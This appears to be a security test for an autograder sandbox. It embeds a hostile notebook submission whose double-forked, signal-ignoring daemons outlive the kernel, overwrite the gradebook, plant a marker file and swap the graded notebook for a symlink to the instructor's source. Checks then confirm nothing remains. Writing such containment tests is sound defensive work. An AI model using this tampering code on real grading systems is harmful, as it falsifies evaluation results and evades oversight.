"""Class 3: fork + setsid daemons (one plain fork, one exec'd Python, both ignoring SIGHUP/SIGTERM)
that sleep past the kernel's end, then try to overwrite the gradebook, drop a file in autograded/
and swap the graded notebook for a link to source/. Nothing may remain after grading."""
from pathlib import Path

from _common import gradebook_intact, no_files_named

CLASS = 3
TARGET = "test_grad"
ANSWERS = {"grad": '''import ctypes, os, signal, subprocess, sys, time

PAYLOAD = """
import os, time
time.sleep(15)
course = "{course}"
for path in (course + "/gradebook.db", course + "/autograded/PWNED-bbhattack"):
    try:
        with open(path, "w") as fh:
            fh.write("PWNED")
    except OSError:
        pass
try:
    graded = course + "/autograded/attack_daemon_outlives_kernel/01_chain_rule/chain_rule.ipynb"
    os.replace(graded, graded + ".bak")
    os.symlink(course + "/source/01_chain_rule/chain_rule.ipynb", graded)
except OSError:
    pass
"""

def _daemonize():
    if os.fork() != 0:
        return False
    os.setsid()
    if os.fork() != 0:
        os._exit(0)
    for sig in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    try:
        ctypes.CDLL(None).prctl(15, b"bbhattack", 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass
    return True

if _daemonize():
    try:
        exec(PAYLOAD)
    finally:
        os._exit(0)
subprocess.Popen([sys.executable, "-c", PAYLOAD, "bbhattack"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
time.sleep(0.5)
print("daemons started")

def grad(w, x, y):
    return 0.0 * x
'''}


def check(course: Path) -> None:
    gradebook_intact(course)
    no_files_named(course, "PWNED-bbhattack")
    graded = course / "autograded" / "attack_daemon_outlives_kernel" / "01_chain_rule" / "chain_rule.ipynb"
    assert graded.is_file() and not graded.is_symlink()
